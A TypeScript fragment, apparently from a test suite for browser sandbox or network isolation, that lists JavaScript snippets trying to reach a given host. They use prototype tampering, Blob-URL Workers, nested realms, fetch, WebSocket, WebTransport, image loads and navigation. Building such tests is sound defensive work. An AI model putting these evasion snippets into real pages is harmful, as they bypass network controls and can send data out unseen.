    `const kept = Array.prototype[Symbol.iterator]; try { Array.prototype[Symbol.iterator] = function* () { yield ${text(`new WebTransport('${url(host)}')`)}; }; new Worker('blob:x'); } finally { Array.prototype[Symbol.iterator] = kept; }`,
  'native worker': (host) =>
    `for (const Made of [Worker.prototype.constructor, Object.getPrototypeOf(Worker)]) { try { new Made(URL.createObjectURL(new Blob([${text(`new WebTransport('${url(host)}')`)}]))); } catch {} }`,
};

/** JavaScript code in the page; no way stops the others. */
export const STAYING: Record<string, Way> = {
  ...FRAMES,
  ...TRICKS,
  ...HINTS,
  ...LOADS,
  ...WORKERS,
};

/** Windows of its own, from which a program would leave. */
const REALMS: Record<string, Way> = Object.fromEntries(
  Object.entries(NESTED_REALMS).map(([name, make]) => [
    `from ${name}`,
    (host: string) =>
      make(
        `try { fetch('${url(host)}').catch(() => {}); new WebSocket('wss://${host}/'); new Image().src = '${url(host)}'; } catch {} location.assign('${url(host)}')`,
      ),
  ]),
);

export const PAGE_PIECES: Record<string, Way> = { ...MARKUP, ...REALMS };
